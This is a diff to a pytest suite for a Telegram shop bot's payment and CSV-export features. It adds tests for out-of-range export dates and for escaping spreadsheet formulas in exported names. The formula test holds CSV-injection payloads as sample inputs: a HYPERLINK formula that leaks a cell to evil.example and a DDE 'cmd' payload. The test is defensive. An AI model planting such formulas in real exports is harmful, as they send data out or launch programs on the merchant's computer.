@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import logging
 
 import pytest
 from telegram.ext import CallbackContext
@@ -164,7 +165,7 @@ async def test_per_phone_limit_whoever_asks(merchant_shop: Shop) -> None:
     assert "before 20:00" in told
     shop.clock.advance(3600)
     await shop.send(fourth.text("0712345672"))
-    assert "2547****672 (M-Pesa)" in shop.last(ADMIN).text or "254712345672 (M-Pesa)" in shop.last(ADMIN).text
+    assert shop.last(ADMIN).text.startswith("Phone: 254712345672 (M-Pesa).\nHow much?")  # the limit has passed
 
 
 # -- what the merchant sees ------------------------------------------------------------------
@@ -234,6 +235,41 @@ async def test_export_is_a_csv_checked_row_by_row(merchant_shop: Shop) -> None:
     assert shop.last(ADMIN).text.startswith("Orders 2025-11-25 to 2025-11-25: 0 rows")
     await shop.send(shop.customer(ADMIN).text("/export 24/11/2025"))
     assert shop.last(ADMIN).text.startswith("Send dates as YYYY-MM-DD")
+
+
+@pytest.mark.parametrize("dates", ["0001-01-01 9999-12-31", "9999-12-31", "2025-11-24 9999-12-31"])
+async def test_export_with_dates_out_of_range_gets_the_usual_message(merchant_shop: Shop, caplog, dates: str) -> None:  # type: ignore[no-untyped-def]
+    shop = merchant_shop
+    await shop.send(shop.customer(ADMIN).text(f"/export {dates}"))
+    assert shop.last(ADMIN).text.startswith("Send dates as YYYY-MM-DD")
+    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]
+
+
+async def test_export_neutralises_what_a_spreadsheet_would_run(merchant_shop: Shop, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    """Telegram names and iPay payer names are anyone's text: a cell a spreadsheet would read
+    as a formula gets a leading apostrophe (OWASP's CSV injection rule); plain numbers stay numbers."""
+    shop = merchant_shop
+    people = [  # (user id, Telegram first name, payer name at iPay)
+        (CUSTOMER, '=HYPERLINK("http://evil.example/?leak="&A1,"Receipt")', "@SUM(1+1)"),
+        (OTHER, "+254 call me", "-2+3*cmd|' /C calc'!A0"),
+        (503, "\tTabbed", "-500"),
+        (504, "\rReturned", "Jane Doe"),
+    ]
+    for n, (user_id, first_name, payer) in enumerate(people):
+        monkeypatch.setattr("bot.sandbox.ipay.PAYER_NAMES", ((payer, ""),))
+        await shop.pay(shop.customer(user_id, first_name), phone=f"071234567{7 + n % 3}")
+        shop.clock.advance(5)
+        await shop.sweep()
+    await shop.send(shop.customer(ADMIN).text("/export 2025-11-24"))
+    rows = list(csv.reader(io.StringIO(shop.last(ADMIN).document["content"].decode("utf-8"))))[1:]
+    assert [row[2] for row in rows] == ["paid"] * 4
+    assert [row[11] for row in rows] == [
+        f"'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Receipt\") ({CUSTOMER})",
+        f"'+254 call me ({OTHER})",
+        "'\tTabbed (503)",
+        "'\rReturned (504)",
+    ]
+    assert [row[8] for row in rows] == ["'@SUM(1+1)", "'-2+3*cmd|' /C calc'!A0", "-500", "Jane Doe"]
 
 
 async def test_daily_summary_goes_to_the_merchant_and_skips_empty_days(merchant_shop: Shop) -> None:
